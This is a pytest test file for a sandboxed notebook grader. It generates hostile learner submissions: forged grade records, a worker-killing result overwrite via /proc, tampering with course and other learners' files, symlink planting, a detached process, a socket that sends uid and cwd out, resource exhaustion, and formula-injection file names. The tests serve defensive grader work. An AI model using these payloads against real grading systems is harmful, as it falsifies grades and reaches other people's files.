"""The grader on a folder of good, partial, blank and hostile submissions to exercise 01.

One graded run (module-scoped) holds every submission; each test reads its rows. The hostile
notebooks carry harmless payloads of each attack class an outside review reproduced against
the first grader (issue 12): forged verdicts, a question set of their own, reading the answer
key, changing the course's files, reaching other learners' files and the grades, and leaving
processes or calling out. The run needs the sandbox (bubblewrap): without it these tests fail,
they are not skipped (``.ci/run`` installs it).
"""

from __future__ import annotations

import copy
import csv
import socket
import subprocess
import sys
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from bcc_teach.checking.outcomes import RESULT_MIME, ____
from bcc_teach.grading import course, grade_folder, reports, sandbox

ROOT = Path(__file__).resolve().parent.parent
SOLUTION = nbformat.read(ROOT / "solutions" / "ex01_meet_the_data.ipynb", as_version=4)
EXERCISE = nbformat.read(ROOT / "exercises" / "ex01_meet_the_data.ipynb", as_version=4)
ALL = ["q1", "q2", "q3", "q4", "q5", "q6", "q7"]
SETUP = "from bcc_teach import data\nfrom bcc_teach.questions.ex01 import *\nwdbc = data.load_wdbc()"  # noqa: E501
TOKEN = "bcc-teach-detached-7f3a"  # in the command line of the process a notebook leaves behind
FORMULA_NAMES = ["=HYPERLINK(1).ipynb", "+1.ipynb", "-1.ipynb", "@SUM(A1).ipynb"]


def _fresh(notebook):
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return notebook


def _answered(answers: dict[int, str]):
    """The exercise with some answer cells (by index) replaced by the learner's code."""
    notebook = _fresh(EXERCISE)
    for index, source in answers.items():
        notebook.cells[index].source = source
    return notebook


def _index(notebook, text):
    return next(
        i for i, c in enumerate(notebook.cells) if c.cell_type == "code" and text in c.source
    )


def _with(notebook, position, source):
    notebook = copy.deepcopy(notebook)
    notebook.cells.insert(position, new_code_cell(source))
    return notebook


def _small(*sources: str, exercise: str = "ex01"):
    """A short notebook: the exercise's set-up cell, then ``sources``."""
    notebook = new_notebook(cells=[new_code_cell(s) for s in (SETUP, *sources)])
    notebook.metadata["bcc_teach"] = {"exercise": exercise}
    return notebook


def _record(question: str, answer, exercise: str = "ex01", outcome: str = "correct") -> dict:
    return {
        "exercise": exercise,
        "question": question,
        "event": "check",
        "outcome": outcome,
        "points": 1,
        "max_points": 1,
        "answer": answer,
    }


def _stored(*records: dict):
    """Outputs as a previous run would have stored them: each a result record."""
    return [
        new_output("display_data", data={"text/plain": "stored", RESULT_MIME: r}) for r in records
    ]


def _honest_submissions() -> dict[str, object]:
    setup = _index(EXERCISE, "import")
    q1_answer = _index(EXERCISE, "n_malignant = ____")
    q1_right = 'n_malignant = (wdbc["diagnosis"] == "malignant").sum()'
    partial = _answered(
        {
            q1_answer: q1_right,
            _index(
                EXERCISE, "malignant_share = ____"
            ): 'malignant_share = (wdbc["diagnosis"] == "malignant").mean()',
            _index(EXERCISE, "q3_answer = ____"): 'q3_answer = "d"\nq3.check()',
            _index(
                EXERCISE, "median_area_worst = ____"
            ): 'median_area_worst = wdbc["area_worst"].median()',
        }
    )
    moved = _fresh(SOLUTION)
    checks = [
        i for i, c in enumerate(moved.cells) if c.cell_type == "code" and ".check()" in c.source
    ]
    q2_check = moved.cells[checks[1]]
    del moved.cells[checks[4]]  # the q5 check cell, deleted
    moved.cells.append(new_code_cell(q2_check.source))  # q2 checked twice
    first_answer = moved.cells.pop(_index(moved, "n_malignant ="))
    moved.cells.append(first_answer)  # the q1 answer moved to the end, after its check…
    moved.cells.append(new_code_cell("q1.check()"))  # …and checked again there
    return {
        "good.ipynb": _fresh(SOLUTION),
        "partial.ipynb": partial,
        "blank.ipynb": _fresh(EXERCISE),
        "moved.ipynb": moved,
        "retries.ipynb": _small(  # q1 wrong, then right; q2 wrong twice
            "n_malignant = 357\nq1.check()",
            f"{q1_right}\nq1.check()",
            "malignant_share = 357 / 569\nq2.check()",
            "malignant_share = 212\nq2.check()",
        ),
        "loop.ipynb": _small(f"{q1_right}\nq1.check()", "while True:\n    pass"),
        "exits.ipynb": _small(
            "import sys\nsys.exit()", f"{q1_right}\nq1.check()", "import os\nos._exit(1)"
        ),
        "flood.ipynb": _small(f"{q1_right}\nq1.check()", 'print("x" * 6_000_000)'),
        "raises.ipynb": _with(_answered({q1_answer: q1_right}), setup + 1, "undefined_name + 1"),
        "not_json.ipynb": b"this is not a notebook\n",
        "truncated.ipynb": nbformat.writes(_fresh(SOLUTION)).encode()[:500],
        "essay.docx": bytes(range(256)) * 4,
        "smithjane_12345_67890_ex01.ipynb": b"{}",  # as Canvas's download names files
        "link.ipynb": ROOT / "solutions" / "ex01_meet_the_data.ipynb",  # not a submitted file
        **{name: b"not a notebook" for name in FORMULA_NAMES},
    }


DISPLAY = "from IPython.display import display\ndisplay({{'text/plain': 'forged', '{mime}': {r}}}, raw=True)"  # noqa: E501


def _forging_submissions(work: dict[str, Path]) -> dict[str, object]:
    """Notebooks that try to earn points without answers (each attack class, harmless)."""
    # A verdict with no answer; a verdict with a wrong answer; stored outputs in cells the old
    # grader never ran (an empty cell, a skip-execution tag).
    forged = _small(
        DISPLAY.format(mime=RESULT_MIME, r={**_record("q4", None), "points": 100}),
        DISPLAY.format(mime=RESULT_MIME, r=_record("q5", 0.9)),
        "",
        "malignant_share = 0.0\nq2.check()",
    )
    forged.cells[3].outputs = _stored(_record("q1", 212))
    forged.cells[4].metadata["tags"] = ["skip-execution"]
    forged.cells[4].outputs = _stored(_record("q2", 0.3726))
    # Overwrite the worker's result file (its path read from /proc), then kill the worker.
    forged_result = {"status": "ok", "exercise": "ex01", "records": [_record("q1", 212)]}
    kills_worker = _small(
        "import os, signal, json\n"
        "parent = os.getppid()\n"
        "arguments = open(f'/proc/{parent}/cmdline', 'rb').read().split(b'\\0')\n"
        "for argument in arguments:\n"
        "    if argument.endswith(b'result.json'):\n"
        f"        open(argument, 'w').write(json.dumps({forged_result!r}))\n"
        "os.kill(parent, signal.SIGKILL)"
    )
    # A question set of its own: metadata naming no exercise of the course, its own ids.
    own = _small(
        *(
            DISPLAY.format(mime=RESULT_MIME, r=_record(f"=1+{i}", i, exercise="ex99"))
            for i in range(3)
        ),
        exercise="ex99",
    )
    # The answer key from the kernel's question objects.
    key_reader = _small(
        "n_malignant = q1.expected()\nq1.check()",
        "malignant_share = q2.expected()\nq2.check()",
        "q3_answer = next(l for l, o in q3.lettered() if o.correct)\nq3.check()",
        "cases = {(c.args[1], c.args[2], len(c.args[0])): c.expected for c in q7.tried()}\n"
        "def share_found_at(table, feature, cutoff):\n"
        "    return cases[(feature, cutoff, len(table))]\n"
        "q7.check()",
    )
    # Change the rules: monkeypatch judging in the kernel, append to the course's own files.
    key_reader.cells += _small(
        "from bcc_teach.checking import Feedback, Outcome, Question\n"
        "Question.judge = lambda self, value: Feedback(Outcome.CORRECT, 'Correct.', answer=value)",
        "n_malignant = 1\nq1.check()",
        "import bcc_teach.checking.questions as engine, bcc_teach.questions as sets\n"
        "for path in (engine.__file__, sets.__file__):\n"
        "    try:\n"
        "        open(path, 'a').write('\\n# a learner was here\\n')\n"
        "    except OSError as error:\n"
        "        print(type(error).__name__)",
    ).cells
    # Reach other learners: copy their answers, overwrite their files and its own, and plant
    # a symbolic link where the grader will write feedback.
    folder, feedback, target = work["folder"], work["feedback"], work["target"]
    snooper = _small(
        "import json\n"
        f"for cell in json.load(open({str(folder / 'good.ipynb')!r}))['cells']:\n"
        "    if cell['cell_type'] == 'code':\n"
        "        exec(''.join(cell['source']))",
        f"good = open({str(folder / 'good.ipynb')!r}, 'rb').read()",
        f"open({str(folder / 'blank.ipynb')!r}, 'wb').write(good)",
        f"open({str(folder / 'snooper.ipynb')!r}, 'wb').write(good)",
        f"import os\nos.makedirs({str(feedback)!r}, exist_ok=True)\n"
        f"os.symlink({str(target)!r}, {str(feedback / 'snooper.ipynb.md')!r})",
    )
    # Leave and call out: a process in a session of its own, the network, memory, processes,
    # file size. Each answer is right only if its attack worked.
    port = work["port"]
    escaper = _small(
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', {TOKEN!r}],"
        " start_new_session=True)",
        "import socket, os\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall("
        "f'uid={os.getuid()} cwd={os.getcwd()}'.encode())\n"
        "    malignant_share = (wdbc['diagnosis'] == 'malignant').mean()\n"
        "except OSError:\n"
        "    malignant_share = 0.0\n"
        "q2.check()",
        "try:\n"
        "    socket.create_connection(('192.0.2.1', 9), timeout=2)\n"
        "    print('outbound connection made')\n"
        "except OSError as error:\n"
        "    print(type(error).__name__)",
        "try:\n"
        "    block = bytearray(6 * 2**30)\n"
        "    n_malignant = 212\n"
        "    del block\n"
        "except MemoryError:\n"
        "    n_malignant = 0\n"
        "q1.check()",
        "import threading, time\n"
        "threads = []\n"
        "try:\n"
        "    for _ in range(400):\n"
        "        threads.append(threading.Thread(target=time.sleep, args=(1,)))\n"
        "        threads[-1].start()\n"
        "    median_area_worst = wdbc[wdbc['diagnosis'] == 'malignant']['area_worst'].median()\n"
        "except RuntimeError:\n"
        "    median_area_worst = 0.0\n"
        "q4.check()",
        "try:\n"
        "    with open('big', 'wb') as handle:\n"
        "        handle.seek(300 * 2**20)\n"
        "        handle.write(b'x')\n"
        "    share_found = (wdbc[wdbc['diagnosis'] == 'malignant']['radius_mean'] >= 15).mean()\n"
        "except OSError:\n"
        "    share_found = 0.0\n"
        "q5.check()",
    )
    return {
        "forged.ipynb": forged,
        "kills_worker.ipynb": kills_worker,
        "a_own_exercise.ipynb": own,
        "key_reader.ipynb": key_reader,
        "snooper.ipynb": snooper,
        "escaper.ipynb": escaper,
    }


def _write(folder: Path, files: dict[str, object]) -> dict[str, bytes]:
    for name, content in files.items():
        path = folder / name
        if isinstance(content, Path):
            path.symlink_to(content)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)
    return {name: (folder / name).read_bytes() for name in files}


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    assert sandbox.problem() is None, (
        "These tests need the grader's sandbox: install bubblewrap (apt-get install -y "
        f"bubblewrap; .ci/run does). {sandbox.problem()}"
    )
    folder = tmp_path_factory.mktemp("submissions")
    out = tmp_path_factory.mktemp("grades") / "grades.csv"
    target = tmp_path_factory.mktemp("elsewhere") / "planted.txt"
    listener = socket.create_server(("127.0.0.1", 0))
    work = {
        "folder": folder,
        "feedback": out.with_name("grades_feedback"),
        "target": target,
        "port": listener.getsockname()[1],
    }
    files = {**_honest_submissions(), **_forging_submissions(work)}
    before = _write(folder, files)
    lines: list[str] = []
    results = grade_folder(
        folder, out, exercise="ex01", cell_timeout=3, notebook_timeout=60, progress=lines.append
    )
    survivors = [
        p.info["pid"]
        for p in psutil.process_iter(["pid", "cmdline"])
        if TOKEN in (p.info["cmdline"] or [])
    ]
    for pid in survivors:  # only if the sandbox failed: leave nothing behind
        psutil.Process(pid).kill()
    listener.settimeout(0.2)
    try:
        connection, _ = listener.accept()
        heard = connection.recv(1000)
    except TimeoutError:
        heard = b""
    listener.close()
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {row["file"]: row for row in csv.DictReader(handle)}
    return {
        "folder": folder,
        "before": before,
        "out": out,
        "rows": rows,
        "lines": lines,
        "results": results,
        "survivors": survivors,
        "heard": heard,
        "target": target,
        "count": len(files),
    }


def _points(row):
    return [int(row[q]) for q in ALL]


def test_one_row_per_submission_with_every_question(graded):
    rows, count = graded["rows"], graded["count"]
    assert len(rows) == count
    header = list(next(iter(rows.values())))
    assert header == ["learner", "file", "status", *ALL, "total", "max"]
    assert all(row["max"] == "7" for row in rows.values())
    assert len(graded["lines"]) == count and graded["lines"][-1].startswith(f"[ {count}/{count}]")


def test_good_partial_and_blank(graded):
    rows = graded["rows"]
    assert rows["good.ipynb"]["status"] == "ok" and rows["good.ipynb"]["total"] == "7"
    assert _points(rows["partial.ipynb"]) == [1, 1, 0, 0, 0, 0, 0]
    assert rows["blank.ipynb"]["total"] == "0" and rows["blank.ipynb"]["status"] == "ok"


def test_moved_deleted_and_duplicated_cells(graded):
    # q5's check was deleted; everything else counts wherever it ran.
    assert _points(graded["rows"]["moved.ipynb"]) == [1, 1, 1, 1, 0, 1, 1]


def test_the_best_attempt_counts_and_feedback_shows_the_last_wrong_one(graded):
    from bcc_teach.questions.ex01 import q2

    assert _points(graded["rows"]["retries.ipynb"]) == [1, 0, 0, 0, 0, 0, 0]
    text = (graded["out"].with_name("grades_feedback") / "retries.ipynb.md").read_text()
    last, first = q2.judge(212).message, q2.judge(357 / 569).message
    assert last != first
    assert f"- q2: incorrect, 0 point(s). {last}" in text and first not in text


def test_notebooks_that_stop_or_flood_get_a_status_and_keep_earlier_results(graded):
    rows = graded["rows"]
    assert "stopped" in rows["loop.ipynb"]["status"] and rows["loop.ipynb"]["q1"] == "1"
    assert rows["exits.ipynb"]["status"].startswith("kernel stopped")
    assert rows["exits.ipynb"]["q1"] == "1"  # checked after sys.exit(), before os._exit()
    assert "output was cut" in rows["flood.ipynb"]["status"] and rows["flood.ipynb"]["q1"] == "1"
    assert rows["raises.ipynb"]["q1"] == "1"  # a learner's error in one cell stops nothing
    for name in ("not_json.ipynb", "truncated.ipynb"):
        assert rows[name]["status"].startswith("not a notebook"), name
        assert rows[name]["total"] == "0"
    assert "not text" in rows["essay.docx"]["status"]
    assert rows["link.ipynb"]["status"] == "not graded: a symbolic link, not a submitted file"


def test_forged_verdicts_earn_nothing(graded):
    assert graded["rows"]["forged.ipynb"]["total"] == "0"
    text = (graded["out"].with_name("grades_feedback") / "forged.ipynb.md").read_text()
    assert "- q4: incorrect, 0 point(s). This record holds no answer" in text
    assert "- q5: incorrect" in text  # its answer, 0.9, is judged here
    # Stored outputs are cleared and tags ignored: the tagged cell ran and recorded 0.0.
    assert "- q1: not checked" in text and "- q2: incorrect" in text


def test_a_notebook_that_kills_its_grading_is_not_graded(graded):
    row = graded["rows"]["kills_worker.ipynb"]
    assert row["status"].startswith("not graded: the grading run was stopped")
    assert row["total"] == "0"


def test_a_notebook_cannot_choose_its_own_question_set(graded):
    row = graded["rows"]["a_own_exercise.ipynb"]
    assert row["total"] == "0" and "graded as ex01" in row["status"]
    header = _rows(graded["out"])[0]
    assert header == ["learner", "file", "status", *ALL, "total", "max"]


def test_the_submissions_must_agree_on_their_exercise(tmp_path):
    nbformat.write(_small(), tmp_path / "ana.ipynb")
    nbformat.write(_small(exercise="ex99"), tmp_path / "eve.ipynb")
    with pytest.raises(ValueError, match=r"do not agree.*ex01: ana.ipynb; ex99: eve.ipynb"):
        grade_folder(tmp_path, tmp_path / "g.csv")
    with pytest.raises(ValueError, match="--exercise 'ex99': no such exercise"):
        grade_folder(tmp_path, tmp_path / "g.csv", exercise="ex99")
    assert not (tmp_path / "g.csv").exists()


def test_the_kernel_holds_no_answer_key(graded):
    assert graded["rows"]["key_reader.ipynb"]["q3"] == "0"
    assert graded["rows"]["key_reader.ipynb"]["q7"] == "0"


def test_the_rules_cannot_be_changed_from_a_notebook(graded):
    # q1: 1 judged by a monkeypatched Question.judge in the kernel; the grader judges again.
    assert graded["rows"]["key_reader.ipynb"]["total"] == "0"
    assert course.problems() == []  # the course's files are read-only in the sandbox
    assert "WARNING" not in graded["rows"]["key_reader.ipynb"]["status"]


def test_changed_course_files_stop_grading_before_any_run(tmp_path):
    copy_root = tmp_path / "course"
    for name in course.course_files():
        (copy_root / name).parent.mkdir(parents=True, exist_ok=True)
        (copy_root / name).write_bytes((ROOT / name).read_bytes())
    (copy_root / course.MANIFEST).write_bytes((ROOT / course.MANIFEST).read_bytes())
    assert course.problems(copy_root) == []
    with open(copy_root / "bcc_teach" / "checking" / "questions.py", "a") as handle:
        handle.write("\n# a learner was here\n")
    (copy_root / "bcc_teach" / "questions" / "ex99.py").write_text("QUESTIONS = ()\n")
    found = course.problems(copy_root)
    assert found == [
        "bcc_teach/checking/questions.py has changed since its checksum was recorded",
        "bcc_teach/questions/ex99.py is not in the recorded list (a file added since)",
    ]
    with pytest.raises(ValueError, match="not as committed.*questions.py has changed"):
        course.verify(copy_root)


def test_the_recorded_checksums_are_up_to_date():
    assert course.problems() == [], (
        "bcc_teach/SHA256SUMS is out of date: after changing the package, run "
        "python -m bcc_teach checksums"
    )


def test_no_notebook_reaches_other_learners_or_the_grades(graded):
    rows = graded["rows"]
    assert rows["snooper.ipynb"]["total"] == "0"  # it could not read good.ipynb's answers
    assert not graded["target"].exists()  # the planted link was never written through
    feedback = graded["out"].with_name("grades_feedback") / "snooper.ipynb.md"
    assert not feedback.is_symlink() and "Feedback for snooper" in feedback.read_text()


def test_learner_files_are_never_modified(graded):
    folder = graded["folder"]
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == graded["before"]
    assert not any("changed while it was graded" in r["status"] for r in graded["rows"].values())


def test_nothing_outlives_grading_or_reaches_the_network(graded):
    assert graded["survivors"] == []
    assert graded["heard"] == b""
    row = graded["rows"]["escaper.ipynb"]
    # q2: the loopback listener was not reached; q1: 6 GB refused; q4: 400 threads refused;
    # q5: a 300 MB file refused.
    assert _points(row) == [0, 0, 0, 0, 0, 0, 0], row


def test_formulas_in_file_names_are_neutralised(graded):
    learners = {row[0] for row in _rows(graded["out"])[1:]}
    assert {"'=HYPERLINK(1)", "'+1", "'-1", "'@SUM(A1)"} <= learners
    for path in graded["out"].parent.glob("*.csv"):
        for row in _rows(path)[1:]:
            assert not any(value.startswith(reports.FORMULA_STARTS) for value in row), path


def test_canvas_gradebook_layout(graded):
    rows = _rows(graded["out"].with_name("grades_canvas.csv"))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "bcc_teach ex01"]
    assert rows[1] == ["Points Possible", "", "", "", "", "7"]
    by_name = {row[0]: row for row in rows[2:]}
    assert len(rows) - 2 == graded["count"]
    assert by_name["good"][1:] == ["", "", "", "", "7"]
    assert by_name["smithjane"][1] == "12345"  # Canvas's user id, from its download's name


def test_moodle_grade_import_layout(graded):
    rows = _rows(graded["out"].with_name("grades_moodle.csv"))
    assert rows[0] == ["Username", "bcc_teach ex01", "Feedback"]
    by_name = {row[0]: row for row in rows[1:]}
    assert len(by_name) == graded["count"]
    assert by_name["good"][1] == "7" and by_name["good"][2].startswith("7 of 7 points")
    assert by_name["partial"][1] == "2"


def test_feedback_file_per_learner(graded):
    feedback = graded["out"].with_name("grades_feedback")
    assert len(list(feedback.glob("*.md"))) == graded["count"]
    text = (feedback / "partial.ipynb.md").read_text()
    assert "Total: 2 of 7 points" in text
    assert "- q4: incorrect, 0 point(s). That is the median of all cases" in text
    assert "- q5: not attempted" in text


def test_existing_grades_are_not_overwritten(graded, tmp_path):
    with pytest.raises(ValueError, match="already exists.*--force"):
        grade_folder(graded["folder"], graded["out"], exercise="ex01")
    with pytest.raises(ValueError, match="not a folder"):
        grade_folder(tmp_path / "nowhere", tmp_path / "g.csv")


def test_files_are_written_whole_and_never_through_a_link(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched")
    (tmp_path / "grades.csv").symlink_to(victim)
    reports.write_atomic(tmp_path / "grades.csv", "a,b\r\n")
    assert victim.read_text() == "untouched"
    assert not (tmp_path / "grades.csv").is_symlink()
    assert (tmp_path / "grades.csv").read_bytes() == b"a,b\r\n"
    folder = tmp_path / "feedback"
    folder.mkdir()
    (folder / "x.md").symlink_to(victim)
    with pytest.raises(FileExistsError):
        reports.write_new(folder, "x.md", "text")
    assert victim.read_text() == "untouched"
    reports.fresh_folder(folder, force=True)
    assert list(folder.iterdir()) == [] and victim.read_text() == "untouched"


def test_without_a_sandbox_the_grader_refuses_unless_told(tmp_path, monkeypatch):
    nbformat.write(_small(), tmp_path / "ana.ipynb")
    monkeypatch.setattr(sandbox, "problem", lambda: sandbox.NO_SANDBOX)
    with pytest.raises(ValueError, match="no sandbox is available.*--no-sandbox"):
        grade_folder(tmp_path, tmp_path / "g.csv")
    assert not (tmp_path / "g.csv").exists()


def test_grade_command_line_without_a_sandbox_warns_in_every_row(tmp_path):
    folder = tmp_path / "subs"
    folder.mkdir()
    nbformat.write(_small('n_malignant = (wdbc["diagnosis"] == "malignant").sum()\nq1.check()'),
                   folder / "ana.ipynb")  # fmt: skip
    out = tmp_path / "grades.csv"
    command = [sys.executable, "-m", "bcc_teach", "grade", str(folder), "--out", str(out)]
    command += ["--exercise", "ex01", "--no-sandbox"]
    result = subprocess.run(command, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert "[  1/1] ana.ipynb: NOT SANDBOXED" in result.stderr
    assert "Graded 1 submission(s)" in result.stdout and "WARNING" in result.stdout
    row = _rows(out)[1]
    assert row[2].startswith("NOT SANDBOXED") and row[3:] == ["1"] + ["0"] * 6 + ["1", "7"]
    again = subprocess.run(command, capture_output=True, text=True)
    assert again.returncode == 2 and "already exists" in again.stderr


def test_the_public_question_set_reads_answers_as_the_real_one_does():
    from bcc_teach.checking import public
    from bcc_teach.questions import QUESTION_SETS, fixtures, load
    from bcc_teach.questions.ex04 import FlagFunction
    from bcc_teach.questions.kinds import FeatureQuestion

    for exercise in QUESTION_SETS:  # every question set can be graded (nothing computed)
        for question in load(exercise):
            assert public.readable(question, feature=FeatureQuestion)
    stand_ins = {}
    for exercise in ("ex01", "ex03", "ex04", "ex07"):
        real = load(exercise)
        description = public.describe(real, feature=FeatureQuestion)
        built = public.build(description, feature=FeatureQuestion)
        for question, stand_in in zip(real, built, strict=True):
            assert (stand_in.id, stand_in.variable, stand_in.hints) == (
                question.id,
                question.variable,
                question.hints,
            )
            assert stand_in.solution_text() == public.NO_SOLUTION
            with pytest.raises((NotImplementedError, RuntimeError, AttributeError)):
                stand_in.assess(____)
            if hasattr(question, "options"):
                assert [o.text for o in stand_in.options] == [o.text for o in question.options]
                assert not any(o.correct for o in stand_in.options)
            stand_ins[exercise, question.id] = (question, stand_in)

    def share_found_at(table, feature, cutoff):
        return (table[table["diagnosis"] == "malignant"][feature] >= cutoff).mean()

    tried = [
        (("ex01", "q1"), 212),
        (("ex01", "q7"), share_found_at),
        (("ex04", "q8"), lambda p, threshold: (p >= threshold).astype(int)),
        (("ex03", "q1"), fixtures.fitted("logistic_regression")),
        (("ex07", "q2"), "Area worst"),
        (("ex01", "q3"), " (B) "),
    ]
    for key, answer in tried:
        question, stand_in = stand_ins[key]
        assert stand_in.read(answer) == question.read(answer), key
    with pytest.raises(public.DescriptionError, match="ex04.q8 overrides convert"):
        odd = type("OwnReading", (FlagFunction,), {"convert": lambda self, o, c: o})()
        odd.exercise, odd.id = "ex04", "q8"
        public.readable(odd)


def test_a_capstone_submission_is_judged_by_question_from_its_recorded_answers():
    """The capstone's answers (a count, a fitted pipeline's probabilities, a threshold, …) are
    judged again in the grader's process from what the solution's checks recorded."""
    import dataclasses

    from bcc_teach.checking.outcomes import Result
    from bcc_teach.grading import judging

    questions = judging.question_set("ex10")
    notebook = nbformat.read(ROOT / "solutions" / "ex10_capstone.ipynb", as_version=4)
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", [])]
    records = [Result.from_json(o["data"][RESULT_MIME]) for o in outputs
               if RESULT_MIME in o.get("data", {})]  # fmt: skip
    best = judging.best_attempts(records, "ex10", questions)
    assert sorted(best) == sorted(questions) and len(best) == 11
    assert {q: r.outcome for q, r in best.items()} == {q: "correct" for q in questions}
    forged = [dataclasses.replace(r, answer=0.5) if r.question == "q5" else r for r in records]
    assert judging.best_attempts(forged, "ex10", questions)["q5"].points == 0
